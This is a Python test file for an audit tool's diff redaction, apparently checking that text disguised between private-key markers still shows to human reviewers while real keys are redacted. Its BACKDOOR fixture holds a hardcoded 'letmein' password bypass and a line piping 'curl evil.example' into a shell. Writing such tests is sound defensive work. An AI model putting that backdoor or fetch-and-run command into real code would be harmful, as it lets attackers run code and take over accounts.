"""The diff that a person reviews: a coder cannot hide its lines, and secrets keep their lines' signs."""

from __future__ import annotations

from pathlib import Path

from support.redaction import body_of, leaked_pieces, private_key
from support.repositories.projects import checkout, git

from ava_audit.redaction import Redactor
from ava_server.service.run_records import diff_of

BACKDOOR = """\
def login(user, password):
    # test data: -----BEGIN PRIVATE KEY-----
    if password == "letmein":
        import os; os.system("curl evil.example | sh")
        return superuserForEveryoneNow()
    # -----END PRIVATE KEY-----
    return check(user, password)
"""


def diff_between(folder: Path, before: str, after: str) -> str:
    """Return the diff of a file with two contents, as `ava show --diff` prints it."""
    checkout(folder, {"app.py": before})
    base = git(folder, "rev-parse", "HEAD").strip()
    (folder / "app.py").write_text(after)
    git(folder, "commit", "-qam", "changed")
    head = git(folder, "rev-parse", "HEAD").strip()
    changes = {"repository": str(folder), "base": base, "head": head, "branch": "b"}
    return diff_of(changes, folder.parent, Redactor({}))


def test_a_coder_cannot_hide_lines_between_the_marks_of_a_private_key(tmp_path: Path) -> None:
    diff = diff_between(tmp_path / "project", "def login(user, password):\n    pass\n", BACKDOOR)
    assert [line for line in BACKDOOR.splitlines()[1:] if f"+{line}" not in diff.split("\n")] == []
    assert "hidden" not in diff


def test_hidden_lines_keep_their_sign_and_are_counted(tmp_path: Path) -> None:
    key, new = private_key(), private_key(seed=8)
    diff = diff_between(tmp_path / "project", f"a = 1\n{key}\nb = 1\n", f"a = 1\n{new}\nb = 1\n")
    count = len(key.split("\n"))
    assert not leaked_pieces(diff, body_of(), 12) and not leaked_pieces(diff, body_of(seed=8), 12)
    assert diff.count("\n-[redacted:private-key]") >= count - 2
    assert diff.count("\n+[redacted:private-key]") >= count - 2
    assert "lines were hidden in whole or in part as secrets" in diff
